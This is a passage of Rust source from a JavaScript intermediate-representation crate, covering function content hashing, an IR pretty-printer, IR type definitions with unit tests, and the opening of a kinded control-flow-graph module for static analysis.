    pub offset: u32,
}

/// Per-program table of function content hashes and the id translations
/// built on them.
#[derive(Debug, Clone)]
pub struct FuncManifest {
    /// Content hash per function, indexed by [`IrFuncId`].
    hashes: Vec<u64>,
    /// Occurrence index per function among same-hash functions, in id
    /// order (duplicated function bodies get 0, 1, ...).
    occs: Vec<u32>,
    /// Reverse lookup `(hash, occurrence)` -> function.
    by_key: HashMap<(u64, u32), IrFuncId>,
    /// Statement -> (function, offset), indexed by [`StmtId`].
    stmt_refs: Vec<StmtRef>,
}

impl FuncManifest {
    /// The content hash of a function.
    pub fn hash_of(&self, f: IrFuncId) -> u64 {
        self.hashes[f.0 as usize]
    }

    /// The occurrence index of a function among functions sharing its
    /// hash.
    pub fn occ_of(&self, f: IrFuncId) -> u32 {
        self.occs[f.0 as usize]
    }

    /// Resolves a `(hash, occurrence)` pair back to a function of *this*
    /// program, if one matches.
    pub fn func_by(&self, hash: u64, occ: u32) -> Option<IrFuncId> {
        self.by_key.get(&(hash, occ)).copied()
    }

    /// The function-relative position of a statement.
    pub fn stmt_ref(&self, s: StmtId) -> StmtRef {
        self.stmt_refs[s.0 as usize]
    }

    /// The statement at a function-relative position, if in range.
    pub fn stmt_at(&self, lowered: &Lowered, func: IrFuncId, offset: u32) -> Option<StmtId> {
        lowered
            .program
            .funcs
            .get(func.0 as usize)
            .and_then(|f| f.stmts.get(offset as usize))
            .copied()
    }

    /// Number of functions covered.
    pub fn len(&self) -> usize {
        self.hashes.len()
    }

    /// True when the program has no functions (cannot happen for real
    /// lowered programs, which always have a top level).
    pub fn is_empty(&self) -> bool {
        self.hashes.is_empty()
    }
}

/// Depth of `target` on the lexical parent chain of `from` (0 = itself).
/// Operand variable references always resolve to an ancestor; a broken
/// chain falls back to the raw id, which only weakens relocation (never
/// correctness — hashes are opaque).
fn ancestor_depth(funcs: &[IrFunc], from: IrFuncId, target: IrFuncId) -> Option<u32> {
    let mut depth = 0u32;
    let mut cur = from;
    loop {
        if cur == target {
            return Some(depth);
        }
        match funcs[cur.0 as usize].parent {
            Some(p) => {
                cur = p;
                depth += 1;
            }
            None => return None,
        }
    }
}

fn hash_place(h: &mut Hasher, funcs: &[IrFunc], own: IrFuncId, p: &Place) {
    match p {
        Place::Var(VarId { func, index }) => {
            h.tag(1);
            match ancestor_depth(funcs, own, *func) {
                Some(d) => h.u32(d),
                None => {
                    // Non-lexical reference (should not occur); keep it
                    // deterministic rather than panic.
                    h.u32(u32::MAX);
                    h.u32(func.0);
                }
            }
            h.u32(*index);
        }
        Place::Global(name) => {
            h.tag(2);
            h.str(name);
        }
    }
}

fn hash_operand(h: &mut Hasher, funcs: &[IrFunc], own: IrFuncId, op: &Operand) {
    match op {
        Operand::Place(p) => {
            h.tag(10);
            hash_place(h, funcs, own, p);
        }
        Operand::Num(n) => {
            h.tag(11);
            // Canonicalize NaN so all NaN literals hash alike.
            let bits = if n.is_nan() {
                f64::NAN.to_bits()
            } else {
                n.to_bits()
            };
            h.bytes(&bits.to_le_bytes());
        }
        Operand::Str(s) => {
            h.tag(12);
            h.str(s);
        }
        Operand::Bool(b) => {
            h.tag(13);
            h.bytes(&[u8::from(*b)]);
        }
        Operand::Null => h.tag(14),
        Operand::Undefined => h.tag(15),
        Operand::This => h.tag(16),
    }
}

fn edge_kind_tag(k: EdgeKind) -> u8 {
    // Explicit numbering so reordering variants upstream can't silently
    // shift tags.
    match k {
        EdgeKind::Seq => 0,
        EdgeKind::BranchTrue => 1,
        EdgeKind::BranchFalse => 2,
        EdgeKind::Jump => 3,
        EdgeKind::Return => 4,
        EdgeKind::ThrowExplicit => 5,
        EdgeKind::ThrowImplicit => 6,
        EdgeKind::Uncaught => 7,
        EdgeKind::Virtual => 8,
    }
}

/// Hashes one function into its canonical content hash.
fn hash_func(lowered: &Lowered, func: &IrFunc) -> u64 {
    let funcs = &lowered.program.funcs;
    let mut h = Hasher::new();
    h.u32(func.param_count);
    h.u32(func.vars.len() as u32);
    for v in &func.vars {
        match &v.name {
            Some(n) => h.str(n),
            None => h.tag(0),
        }
        h.bytes(&[u8::from(v.is_param)]);
    }
    // Offsets within this function, and lexical ordinals for lambdas.
    let mut offset_of: HashMap<StmtId, u32> = HashMap::new();
    for (i, s) in func.stmts.iter().enumerate() {
        offset_of.insert(*s, i as u32);
    }
    let mut lambda_ordinal: HashMap<IrFuncId, u32> = HashMap::new();
    for s in &func.stmts {
        if let IrStmtKind::Lambda { func: child, .. } = &lowered.program.stmt(*s).kind {
            let next = lambda_ordinal.len() as u32;
            lambda_ordinal.entry(*child).or_insert(next);
        }
    }
    let rel = |id: StmtId| offset_of.get(&id).copied().unwrap_or(u32::MAX);

    for (i, sid) in func.stmts.iter().enumerate() {
        let stmt = lowered.program.stmt(*sid);
        h.u32(i as u32);
        match stmt.handler {
            Some(hs) => h.u32(rel(hs)),
            None => h.tag(0xfe),
        }
        use IrStmtKind::*;
        match &stmt.kind {
            Copy { dst, src } => {
                h.tag(20);
                hash_place(&mut h, funcs, func.id, dst);
                hash_operand(&mut h, funcs, func.id, src);
            }
            UnOp { dst, op, src } => {
                h.tag(21);
                hash_place(&mut h, funcs, func.id, dst);
                h.str(&format!("{op:?}"));
                hash_operand(&mut h, funcs, func.id, src);
            }
            BinOp {
                dst,
                op,
                left,
                right,
            } => {
                h.tag(22);
                hash_place(&mut h, funcs, func.id, dst);
                h.str(&format!("{op:?}"));
                hash_operand(&mut h, funcs, func.id, left);
                hash_operand(&mut h, funcs, func.id, right);
            }
            Typeof { dst, src } => {
                h.tag(23);
                hash_place(&mut h, funcs, func.id, dst);
                hash_operand(&mut h, funcs, func.id, src);
            }
            NewObject { dst } => {
                h.tag(24);
                hash_place(&mut h, funcs, func.id, dst);
            }
            NewArray { dst } => {
                h.tag(25);
                hash_place(&mut h, funcs, func.id, dst);
            }
            NewRegex { dst, pattern } => {
                h.tag(26);
                hash_place(&mut h, funcs, func.id, dst);
                h.str(pattern);
            }
            Lambda { dst, func: child } => {
                h.tag(27);
                hash_place(&mut h, funcs, func.id, dst);
                h.u32(lambda_ordinal.get(child).copied().unwrap_or(u32::MAX));
            }
            LoadProp { dst, obj, prop } => {
                h.tag(28);
                hash_place(&mut h, funcs, func.id, dst);
                hash_operand(&mut h, funcs, func.id, obj);
                hash_operand(&mut h, funcs, func.id, prop);
            }
            StoreProp { obj, prop, value } => {
                h.tag(29);
                hash_operand(&mut h, funcs, func.id, obj);
                hash_operand(&mut h, funcs, func.id, prop);
                hash_operand(&mut h, funcs, func.id, value);
            }
            DeleteProp { obj, prop } => {
                h.tag(30);
                hash_operand(&mut h, funcs, func.id, obj);
                hash_operand(&mut h, funcs, func.id, prop);
            }
            Call {
                dst,
                callee,
                this,
                args,
                is_new,
            } => {
                h.tag(31);
                hash_place(&mut h, funcs, func.id, dst);
                hash_operand(&mut h, funcs, func.id, callee);
                match this {
                    Some(t) => hash_operand(&mut h, funcs, func.id, t),
                    None => h.tag(0xfd),
                }
                h.u32(args.len() as u32);
                for a in args {
                    hash_operand(&mut h, funcs, func.id, a);
                }
                h.bytes(&[u8::from(*is_new)]);
            }
            CallResult { dst } => {
                h.tag(32);
                hash_place(&mut h, funcs, func.id, dst);
            }
            Branch { cond } => {
                h.tag(33);
                hash_operand(&mut h, funcs, func.id, cond);
            }
            Havoc { dst } => {
                h.tag(34);
                hash_place(&mut h, funcs, func.id, dst);
            }
            Return { value } => {
                h.tag(35);
                hash_operand(&mut h, funcs, func.id, value);
            }
            Throw { value } => {
                h.tag(36);
                hash_operand(&mut h, funcs, func.id, value);
            }
            CatchBind { dst } => {
                h.tag(37);
                hash_place(&mut h, funcs, func.id, dst);
            }
            ForInNext { dst, obj } => {
                h.tag(38);
                hash_place(&mut h, funcs, func.id, dst);
                hash_operand(&mut h, funcs, func.id, obj);
            }
            Enter => h.tag(39),
            Exit => h.tag(40),
            Nop(label) => {
                h.tag(41);
                h.str(label);
            }
            EventDispatch => h.tag(42),
        }
        // Control flow: successor offsets and edge kinds. Edges leaving
        // the function (none exist today) would render as u32::MAX.
        for (target, kind) in lowered.cfg.succs(*sid) {
            h.tag(0xee);
            h.u32(rel(*target));
            h.bytes(&[edge_kind_tag(*kind)]);
        }
    }
    h.0
}

/// Builds the manifest for a lowered program: all function hashes,
/// occurrence indices, and statement translations.
pub fn manifest(lowered: &Lowered) -> FuncManifest {
    let funcs = &lowered.program.funcs;
    let mut hashes = Vec::with_capacity(funcs.len());
    for f in funcs {
        hashes.push(hash_func(lowered, f));
    }
    let mut seen: HashMap<u64, u32> = HashMap::new();
    let mut occs = Vec::with_capacity(funcs.len());
    let mut by_key = HashMap::new();
    for (i, &h) in hashes.iter().enumerate() {
        let occ = seen.entry(h).or_insert(0);
        occs.push(*occ);
        by_key.insert((h, *occ), IrFuncId(i as u32));
        *occ += 1;
    }
    let mut stmt_refs = vec![
        StmtRef {
            func: IrFuncId::TOP_LEVEL,
            offset: u32::MAX,
        };
        lowered.program.stmts.len()
    ];
    for f in funcs {
        for (i, s) in f.stmts.iter().enumerate() {
            stmt_refs[s.0 as usize] = StmtRef {
                func: f.id,
                offset: i as u32,
            };
        }
    }
    FuncManifest {
        hashes,
        occs,
        by_key,
        stmt_refs,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lower;
    use jsparser::parse;

    fn lowered(src: &str) -> Lowered {
        lower(&parse(src).expect("parse"))
    }

    /// Hashes of every non-top-level function, keyed by name.
    fn func_hashes(l: &Lowered) -> HashMap<String, u64> {
        let m = manifest(l);
        l.program
            .funcs
            .iter()
            .skip(1)
            .map(|f| (f.name.clone(), m.hash_of(f.id)))
            .collect()
    }

    #[test]
    fn hash_is_deterministic() {
        let src = "function a(x) { return x + 1; } a(2);";
        assert_eq!(func_hashes(&lowered(src)), func_hashes(&lowered(src)));
    }

    #[test]
    fn unrelated_edit_keeps_other_hashes() {
        let before = "function a(x) { return x + 1; }\nfunction b(y) { return y * 2; }\na(1); b(2);";
        let after = "function a(x) { return x + 99; }\nfunction b(y) { return y * 2; }\na(1); b(2);";
        let hb = func_hashes(&lowered(before));
        let ha = func_hashes(&lowered(after));
        assert_ne!(hb["a"], ha["a"], "edited function must re-hash");
        assert_eq!(hb["b"], ha["b"], "unedited function must keep its hash");
    }

    #[test]
    fn inserting_a_function_is_relocation_stable() {
        let before = "function b(y) { return y * 2; }\nb(2);";
        let after = "function zzz() { return 0; }\nfunction b(y) { return y * 2; }\nzzz(); b(2);";
        let hb = func_hashes(&lowered(before));
        let ha = func_hashes(&lowered(after));
        assert_eq!(
            hb["b"], ha["b"],
            "statement renumbering must not change a function's hash"
        );
    }

    #[test]
    fn editing_a_child_keeps_the_parent_hash() {
        let before = "function outer() { var f = function inner() { return 1; }; return f; }";
        let after = "function outer() { var f = function inner() { return 2; }; return f; }";
        let hb = func_hashes(&lowered(before));
        let ha = func_hashes(&lowered(after));
        assert_ne!(hb["inner"], ha["inner"]);
        assert_eq!(
            hb["outer"], ha["outer"],
            "a child body edit must not dirty the parent's own hash"
        );
    }

    #[test]
    fn duplicate_functions_get_occurrences() {
        let src = "var a = function (x) { return x; };\nvar b = function (x) { return x; };";
        let l = lowered(src);
        let m = manifest(&l);
        let f1 = IrFuncId(1);
        let f2 = IrFuncId(2);
        assert_eq!(m.hash_of(f1), m.hash_of(f2));
        assert_eq!(m.occ_of(f1), 0);
        assert_eq!(m.occ_of(f2), 1);
        assert_eq!(m.func_by(m.hash_of(f1), 0), Some(f1));
        assert_eq!(m.func_by(m.hash_of(f1), 1), Some(f2));
        assert_eq!(m.func_by(m.hash_of(f1), 2), None);
    }

    #[test]
    fn stmt_refs_round_trip() {
        let l = lowered("function a(x) { return x; } a(1);");
        let m = manifest(&l);
        for f in &l.program.funcs {
            for (i, s) in f.stmts.iter().enumerate() {
                let r = m.stmt_ref(*s);
                assert_eq!(r.func, f.id);
                assert_eq!(r.offset, i as u32);
                assert_eq!(m.stmt_at(&l, r.func, r.offset), Some(*s));
            }
        }
    }
}
