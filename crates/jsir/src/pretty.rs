//! Human-readable dumps of the IR and CFG, for debugging and examples.

use crate::cfg::Cfg;
use crate::ir::{IrProgram, IrStmtKind, Place, StmtId};
use std::fmt::Write as _;

/// Renders one statement as a line of pseudo-code.
pub fn stmt_to_string(prog: &IrProgram, id: StmtId) -> String {
    let s = prog.stmt(id);
    let p = |pl: &Place| match pl {
        Place::Var(v) => prog.var_name(*v),
        Place::Global(g) => format!("global.{g}"),
    };
    use IrStmtKind::*;
    match &s.kind {
        Copy { dst, src } => format!("{} = {}", p(dst), src),
        UnOp { dst, op, src } => format!("{} = {:?} {}", p(dst), op, src),
        BinOp {
            dst,
            op,
            left,
            right,
        } => format!("{} = {} {:?} {}", p(dst), left, op, right),
        Typeof { dst, src } => format!("{} = typeof {}", p(dst), src),
        NewObject { dst } => format!("{} = {{}}", p(dst)),
        NewArray { dst } => format!("{} = []", p(dst)),
        NewRegex { dst, pattern } => format!("{} = {}", p(dst), pattern),
        Lambda { dst, func } => format!("{} = lambda {}", p(dst), func),
        LoadProp { dst, obj, prop } => format!("{} = {}[{}]", p(dst), obj, prop),
        StoreProp { obj, prop, value } => format!("{obj}[{prop}] = {value}"),
        DeleteProp { obj, prop } => format!("delete {obj}[{prop}]"),
        Call {
            dst,
            callee,
            this,
            args,
            is_new,
        } => {
            let mut out = format!("{} = ", p(dst));
            if *is_new {
                out.push_str("new ");
            }
            let _ = write!(out, "{callee}(");
            if let Some(t) = this {
                let _ = write!(out, "this={t}; ");
            }
            for (i, a) in args.iter().enumerate() {
                if i > 0 {
                    out.push_str(", ");
                }
                let _ = write!(out, "{a}");
            }
            out.push(')');
            out
        }
        CallResult { dst } => format!("{} = <call result>", p(dst)),
        Branch { cond } => format!("branch {cond}"),
        Havoc { dst } => format!("{} = havoc", p(dst)),
        Return { value } => format!("return {value}"),
        Throw { value } => format!("throw {value}"),
        CatchBind { dst } => format!("catch {}", p(dst)),
        ForInNext { dst, obj } => format!("{} = next-key {}", p(dst), obj),
        Enter => "enter".to_owned(),
        Exit => "exit".to_owned(),
        Nop(label) => format!("nop <{label}>"),
        EventDispatch => "dispatch-events".to_owned(),
    }
}

/// Renders the whole program with CFG successor annotations.
pub fn program_to_string(prog: &IrProgram, cfg: &Cfg) -> String {
    let mut out = String::new();
    for f in &prog.funcs {
        let _ = writeln!(out, "function {} ({}):", f.id, f.name);
        for &sid in &f.stmts {
            let succs: Vec<String> = cfg
                .succs(sid)
                .iter()
                .map(|(t, k)| format!("{t}:{k:?}"))
                .collect();
            let _ = writeln!(
                out,
                "  {:>5}  {:<50} -> {}",
                sid.to_string(),
                stmt_to_string(prog, sid),
                succs.join(", ")
            );
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lower::{lower_with_options, LowerOptions};

    #[test]
    fn renders_without_panicking() {
        let ast = jsparser::parse(
            "var x = 1; function f(a) { return a + x; } try { f(2); } catch (e) { throw e; }",
        )
        .unwrap();
        let lowered = lower_with_options(&ast, &LowerOptions { event_loop: false });
        let text = program_to_string(&lowered.program, &lowered.cfg);
        assert!(text.contains("enter"));
        assert!(text.contains("exit"));
        assert!(text.contains("lambda"));
        assert!(text.contains("return"));
    }
}
