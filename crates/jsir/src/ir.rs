//! The flat intermediate representation.
//!
//! The AST is lowered to a statement-level IR in which every statement
//! performs at most one variable write or one property write, and reads a
//! bounded set of operands. This mirrors JSAI's notJS intermediate form
//! and is what makes the read/write sets of Section 3 well-defined per
//! statement.

use jsparser::ast::FunId;
use jsparser::span::Span;
use std::fmt;

/// Identifies a statement globally within an [`IrProgram`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct StmtId(pub u32);

impl fmt::Display for StmtId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "s{}", self.0)
    }
}

/// Identifies a function within an [`IrProgram`]; id 0 is the top level.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct IrFuncId(pub u32);

impl IrFuncId {
    /// The top-level pseudo-function.
    pub const TOP_LEVEL: IrFuncId = IrFuncId(0);
}

impl fmt::Display for IrFuncId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "f{}", self.0)
    }
}

/// Identifies a variable slot (parameter, named local, or compiler temp)
/// within a specific function.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct VarId {
    /// The function owning the slot.
    pub func: IrFuncId,
    /// The slot index within that function's variable table.
    pub index: u32,
}

impl fmt::Display for VarId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:v{}", self.func, self.index)
    }
}

/// A storage location that a statement can read or write directly.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Place {
    /// A function-scoped variable (possibly captured from an enclosing
    /// function -- compare `var.func` with the statement's function).
    Var(VarId),
    /// A global: a property of the global object.
    Global(String),
}

impl fmt::Display for Place {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Place::Var(v) => write!(f, "{v}"),
            Place::Global(g) => write!(f, "global.{g}"),
        }
    }
}

/// An operand: a place to read from, a literal, or `this`.
#[derive(Debug, Clone, PartialEq)]
pub enum Operand {
    /// Read a variable or global.
    Place(Place),
    /// Numeric literal.
    Num(f64),
    /// String literal.
    Str(String),
    /// Boolean literal.
    Bool(bool),
    /// `null`.
    Null,
    /// `undefined` (also used for elisions and missing values).
    Undefined,
    /// The current `this` binding.
    This,
}

impl Operand {
    /// The place read by this operand, if any.
    pub fn place(&self) -> Option<&Place> {
        match self {
            Operand::Place(p) => Some(p),
            _ => None,
        }
    }
}

impl fmt::Display for Operand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Operand::Place(p) => write!(f, "{p}"),
            Operand::Num(n) => write!(f, "{n}"),
            Operand::Str(s) => write!(f, "{s:?}"),
            Operand::Bool(b) => write!(f, "{b}"),
            Operand::Null => write!(f, "null"),
            Operand::Undefined => write!(f, "undefined"),
            Operand::This => write!(f, "this"),
        }
    }
}

/// Unary operators at the IR level (AST operators minus `delete`, which
/// lowers to [`IrStmtKind::DeleteProp`]).
pub use jsparser::ast::{BinaryOp, UnaryOp};

/// One IR statement.
#[derive(Debug, Clone, PartialEq)]
pub struct IrStmt {
    /// Global id.
    pub id: StmtId,
    /// Owning function.
    pub func: IrFuncId,
    /// Payload.
    pub kind: IrStmtKind,
    /// Source span of the originating AST node.
    pub span: Span,
    /// The innermost enclosing catch-entry statement, if this statement is
    /// inside a `try` block (exceptions jump there).
    pub handler: Option<StmtId>,
}

/// Statement payloads.
#[derive(Debug, Clone, PartialEq)]
pub enum IrStmtKind {
    /// `dst = src`
    Copy {
        /// Destination place.
        dst: Place,
        /// Source operand.
        src: Operand,
    },
    /// `dst = op src`
    UnOp {
        /// Destination place.
        dst: Place,
        /// Operator.
        op: UnaryOp,
        /// Operand.
        src: Operand,
    },
    /// `dst = left op right`
    BinOp {
        /// Destination place.
        dst: Place,
        /// Operator.
        op: BinaryOp,
        /// Left operand.
        left: Operand,
        /// Right operand.
        right: Operand,
    },
    /// `dst = typeof place-or-value` -- distinguished from [`IrStmtKind::UnOp`]
    /// because `typeof x` on an undeclared global must not throw.
    Typeof {
        /// Destination place.
        dst: Place,
        /// Operand.
        src: Operand,
    },
    /// `dst = {}` (allocation site)
    NewObject {
        /// Destination place.
        dst: Place,
    },
    /// `dst = []` (allocation site)
    NewArray {
        /// Destination place.
        dst: Place,
    },
    /// `dst = /pat/` (allocation site)
    NewRegex {
        /// Destination place.
        dst: Place,
        /// The literal text.
        pattern: String,
    },
    /// `dst = function .. {}` -- closure creation (allocation site).
    Lambda {
        /// Destination place.
        dst: Place,
        /// The function being closed over.
        func: IrFuncId,
    },
    /// `dst = obj[prop]`
    LoadProp {
        /// Destination place.
        dst: Place,
        /// The object operand.
        obj: Operand,
        /// The property-name operand.
        prop: Operand,
    },
    /// `obj[prop] = value`
    StoreProp {
        /// The object operand.
        obj: Operand,
        /// The property-name operand.
        prop: Operand,
        /// The stored value.
        value: Operand,
    },
    /// `delete obj[prop]`
    DeleteProp {
        /// The object operand.
        obj: Operand,
        /// The property-name operand.
        prop: Operand,
    },
    /// `dst = callee.call(this, args)` or `dst = new callee(args)`.
    Call {
        /// Destination place for the return value.
        dst: Place,
        /// The callee operand.
        callee: Operand,
        /// Receiver (`None` means global / undefined `this`).
        this: Option<Operand>,
        /// Argument operands.
        args: Vec<Operand>,
        /// True for `new` expressions.
        is_new: bool,
    },
    /// Receives the return value of the immediately preceding
    /// [`IrStmtKind::Call`]. Splitting the call into two PDG nodes keeps
    /// argument data dependences (into the call) separate from
    /// return-value data dependences (out of it), avoiding spurious
    /// arg-to-result flows through a single conflated node.
    CallResult {
        /// Destination place for the return value.
        dst: Place,
    },
    /// Two-way branch on an operand; successors carry
    /// [`EdgeKind::BranchTrue`](crate::cfg::EdgeKind::BranchTrue) /
    /// [`EdgeKind::BranchFalse`](crate::cfg::EdgeKind::BranchFalse) edges.
    Branch {
        /// The condition operand.
        cond: Operand,
    },
    /// `dst = <nondeterministic boolean>`; used for loops whose exit the
    /// analysis cannot decide (for-in, the event loop).
    Havoc {
        /// Destination place.
        dst: Place,
    },
    /// `return value` -- successor edge (to function exit) is non-local
    /// explicit.
    Return {
        /// The returned operand (`undefined` when absent).
        value: Operand,
    },
    /// `throw value` -- successor edge (to handler or uncaught) is
    /// non-local explicit.
    Throw {
        /// The thrown operand.
        value: Operand,
    },
    /// First statement of a catch block; binds the in-flight exception.
    CatchBind {
        /// The catch parameter.
        dst: Place,
    },
    /// `dst = <next enumerated key of obj>` for `for-in` loops.
    ForInNext {
        /// The loop variable.
        dst: Place,
        /// The enumerated object.
        obj: Operand,
    },
    /// Function entry marker.
    Enter,
    /// Function exit marker (join of all returns).
    Exit,
    /// A no-op join/label point; the string describes its role.
    Nop(&'static str),
    /// Synthesized dispatch point of the addon event loop: abstractly
    /// invokes every registered event handler (Section 6.1).
    EventDispatch,
}

impl IrStmtKind {
    /// The place this statement writes, if it writes a variable/global
    /// directly (property writes are reported separately).
    pub fn def_place(&self) -> Option<&Place> {
        use IrStmtKind::*;
        match self {
            Copy { dst, .. }
            | UnOp { dst, .. }
            | BinOp { dst, .. }
            | Typeof { dst, .. }
            | NewObject { dst }
            | NewArray { dst }
            | NewRegex { dst, .. }
            | Lambda { dst, .. }
            | LoadProp { dst, .. }
            | Call { dst, .. }
            | CallResult { dst }
            | Havoc { dst }
            | CatchBind { dst }
            | ForInNext { dst, .. } => Some(dst),
            _ => None,
        }
    }

    /// All operands read by the statement, in evaluation order.
    pub fn operands(&self) -> Vec<&Operand> {
        use IrStmtKind::*;
        match self {
            Copy { src, .. } | UnOp { src, .. } | Typeof { src, .. } => vec![src],
            BinOp { left, right, .. } => vec![left, right],
            LoadProp { obj, prop, .. } | DeleteProp { obj, prop } => vec![obj, prop],
            StoreProp { obj, prop, value } => vec![obj, prop, value],
            Call {
                callee, this, args, ..
            } => {
                let mut v = vec![callee];
                if let Some(t) = this {
                    v.push(t);
                }
                v.extend(args.iter());
                v
            }
            Branch { cond } => vec![cond],
            Return { value } => vec![value],
            Throw { value } => vec![value],
            ForInNext { obj, .. } => vec![obj],
            NewObject { .. } | NewArray { .. } | NewRegex { .. } | Lambda { .. }
            | CallResult { .. } | Havoc { .. } | CatchBind { .. } | Enter | Exit | Nop(_)
            | EventDispatch => Vec::new(),
        }
    }

    /// True if this statement allocates a heap object.
    pub fn is_allocation(&self) -> bool {
        matches!(
            self,
            IrStmtKind::NewObject { .. }
                | IrStmtKind::NewArray { .. }
                | IrStmtKind::NewRegex { .. }
                | IrStmtKind::Lambda { .. }
        )
    }

    /// True if this statement may throw an *implicit* exception, given
    /// only syntactic information (the base analysis refines this using
    /// abstract values; see `jsanalysis`).
    pub fn may_implicitly_throw_syntactic(&self) -> bool {
        matches!(
            self,
            IrStmtKind::LoadProp { .. }
                | IrStmtKind::StoreProp { .. }
                | IrStmtKind::DeleteProp { .. }
                | IrStmtKind::Call { .. }
        )
    }
}

/// A variable slot's metadata.
#[derive(Debug, Clone, PartialEq)]
pub struct VarInfo {
    /// Source name; `None` for compiler temporaries.
    pub name: Option<String>,
    /// True for formal parameters.
    pub is_param: bool,
}

/// One lowered function.
#[derive(Debug, Clone)]
pub struct IrFunc {
    /// This function's id.
    pub id: IrFuncId,
    /// The AST function id (`None` for the top level).
    pub ast_id: Option<FunId>,
    /// Function name for diagnostics.
    pub name: String,
    /// Number of formal parameters (slots `0..param_count`).
    pub param_count: u32,
    /// Variable table: params, then named locals, then temps.
    pub vars: Vec<VarInfo>,
    /// Entry statement ([`IrStmtKind::Enter`]).
    pub entry: StmtId,
    /// Exit statement ([`IrStmtKind::Exit`]).
    pub exit: StmtId,
    /// All statements belonging to this function, in creation order.
    pub stmts: Vec<StmtId>,
    /// The statically enclosing function (`None` for the top level).
    pub parent: Option<IrFuncId>,
}

impl IrFunc {
    /// Looks up a named variable slot.
    pub fn lookup_var(&self, name: &str) -> Option<u32> {
        self.vars
            .iter()
            .position(|v| v.name.as_deref() == Some(name))
            .map(|i| i as u32)
    }
}

/// A whole lowered program: function table plus a global statement pool.
#[derive(Debug, Clone)]
pub struct IrProgram {
    /// All functions; index 0 is the top level.
    pub funcs: Vec<IrFunc>,
    /// All statements, indexed by [`StmtId`].
    pub stmts: Vec<IrStmt>,
}

impl IrProgram {
    /// The statement with the given id.
    pub fn stmt(&self, id: StmtId) -> &IrStmt {
        &self.stmts[id.0 as usize]
    }

    /// The function with the given id.
    pub fn func(&self, id: IrFuncId) -> &IrFunc {
        &self.funcs[id.0 as usize]
    }

    /// The top-level pseudo-function.
    pub fn top_level(&self) -> &IrFunc {
        &self.funcs[0]
    }

    /// Finds the function lowered from the given AST function.
    pub fn func_for_ast(&self, ast_id: FunId) -> Option<&IrFunc> {
        self.funcs.iter().find(|f| f.ast_id == Some(ast_id))
    }

    /// Number of statements.
    pub fn stmt_count(&self) -> usize {
        self.stmts.len()
    }

    /// Display name of a variable for diagnostics.
    pub fn var_name(&self, v: VarId) -> String {
        let info = &self.func(v.func).vars[v.index as usize];
        match &info.name {
            Some(n) => n.clone(),
            None => format!("%t{}", v.index),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn def_place_and_operands() {
        let dst = Place::Var(VarId {
            func: IrFuncId(0),
            index: 0,
        });
        let k = IrStmtKind::BinOp {
            dst: dst.clone(),
            op: BinaryOp::Add,
            left: Operand::Num(1.0),
            right: Operand::Num(2.0),
        };
        assert_eq!(k.def_place(), Some(&dst));
        assert_eq!(k.operands().len(), 2);

        let store = IrStmtKind::StoreProp {
            obj: Operand::Place(dst.clone()),
            prop: Operand::Str("p".into()),
            value: Operand::Num(1.0),
        };
        assert_eq!(store.def_place(), None);
        assert_eq!(store.operands().len(), 3);
        assert!(store.may_implicitly_throw_syntactic());
        assert!(!k.may_implicitly_throw_syntactic());
    }

    #[test]
    fn call_operands_include_this_and_args() {
        let callee = Operand::Place(Place::Global("send".into()));
        let k = IrStmtKind::Call {
            dst: Place::Var(VarId {
                func: IrFuncId(0),
                index: 1,
            }),
            callee,
            this: Some(Operand::This),
            args: vec![Operand::Num(1.0), Operand::Num(2.0)],
            is_new: false,
        };
        assert_eq!(k.operands().len(), 4);
    }

    #[test]
    fn allocation_classification() {
        let dst = Place::Var(VarId {
            func: IrFuncId(0),
            index: 0,
        });
        assert!(IrStmtKind::NewObject { dst: dst.clone() }.is_allocation());
        assert!(IrStmtKind::Lambda {
            dst: dst.clone(),
            func: IrFuncId(1)
        }
        .is_allocation());
        assert!(!IrStmtKind::Copy {
            dst,
            src: Operand::Null
        }
        .is_allocation());
    }

    #[test]
    fn display_impls() {
        let v = VarId {
            func: IrFuncId(2),
            index: 3,
        };
        assert_eq!(v.to_string(), "f2:v3");
        assert_eq!(Place::Global("x".into()).to_string(), "global.x");
        assert_eq!(Operand::Str("a".into()).to_string(), "\"a\"");
        assert_eq!(StmtId(7).to_string(), "s7");
    }
}
