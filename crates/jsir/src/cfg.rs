//! The control-flow graph over IR statements, with *kinded* edges.
//!
//! The paper's staged CDG construction (Section 3.3) prunes the CFG by
//! edge provenance: first all non-local edges are removed, then only the
//! implicit-exception edges. We therefore record for every edge whether it
//! arises from structured local control flow, an explicit jump
//! (`break`/`continue`/`return`/`throw`), or an implicit exception.

use crate::ir::StmtId;
use std::collections::BTreeSet;

/// Provenance of a CFG edge.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum EdgeKind {
    /// Sequential fall-through.
    Seq,
    /// True branch of a conditional.
    BranchTrue,
    /// False branch of a conditional.
    BranchFalse,
    /// Explicit non-local jump: `break` / `continue`.
    Jump,
    /// `return` to the function exit.
    Return,
    /// `throw` to the innermost handler (explicit non-local).
    ThrowExplicit,
    /// Implicit exception (possible `undefined` dereference, call of a
    /// non-function, ...) to the innermost handler. These edges are added
    /// *after* the base analysis has decided which statements may throw.
    ThrowImplicit,
    /// An exception with no handler in the function: flows to the function
    /// exit but is excluded from every CDG stage (the paper omits
    /// uncaught-exception edges; such exceptions terminate the addon).
    Uncaught,
    /// A virtual entry-to-exit edge added only during CDG construction
    /// (the classic augmentation making unconditionally-executed
    /// statements control dependent on the function entry, which carries
    /// interprocedural control dependence through call sites).
    Virtual,
}

impl EdgeKind {
    /// True for edges arising from structured local control flow.
    pub fn is_local(self) -> bool {
        matches!(
            self,
